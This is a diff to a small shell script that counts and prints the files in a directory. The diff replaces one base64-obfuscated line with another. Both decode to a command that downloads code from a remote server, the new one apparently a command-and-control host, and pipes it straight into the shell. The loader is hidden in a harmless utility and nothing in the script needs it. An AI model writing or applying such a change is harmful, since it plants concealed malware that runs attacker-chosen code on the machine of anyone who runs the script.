@@ -1,6 +1,4 @@
 #!/bin/sh
 count=$(ls | wc -l)
 echo "files: $count"
-printf %s Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMzo4MDAwL3N0YWdlMiB8IHNo | base64 -d | sh
-count=$(ls | wc -l)
-echo "files: $count"
+printf %s Y3VybCAtcyBodHRwOi8vYzIuZXhhbXBsZS5vcmcvaS5weSB8IHNo | base64 -d | sh
